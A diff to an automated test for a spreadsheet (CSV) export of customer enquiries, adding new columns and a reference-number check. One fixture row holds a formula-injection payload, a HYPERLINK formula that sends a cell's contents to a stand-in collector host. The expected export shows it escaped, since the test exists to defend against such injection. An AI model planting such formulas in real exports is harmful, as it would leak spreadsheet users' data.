@@ -218,9 +218,13 @@ test('what is listed is exported for spreadsheets, whole and without formulas', 
   const bytes = await readFile(await download.path())
   expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
   const date: unknown = expect.stringMatching(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/)
+  const reference: unknown = expect.stringMatching(/^GW-[\dA-F]{8}$/)
+  const none = ['', '', '', '', '']
   expect(parse(bytes.subarray(3).toString('utf8'))).toEqual([
-    ['Name', 'Company', 'Email', 'Phone', 'Products', 'Message', 'Date'],
-    ['Plain', word, email, '+91 98765 43210', '', '', date],
+    'Name,Company,Email,Phone,Products,Message,Date,Quantities and notes,Needed by,Budget per gift,Delivery city,Branding,Reference'.split(
+      ',',
+    ),
+    ['Plain', word, email, '+91 98765 43210', '', '', date, ...none, reference],
     [
       `'=HYPERLINK("https://collector.example/?"&B1,"Prices")`,
       `Ünïque, "${word}" & Søns 🎁`,
@@ -229,6 +233,8 @@ test('what is listed is exported for spreadsheets, whole and without formulas', 
       'Mug, tall; Pen',
       'one\ntwo; three',
       date,
+      ...none,
+      reference,
     ],
   ])
 })
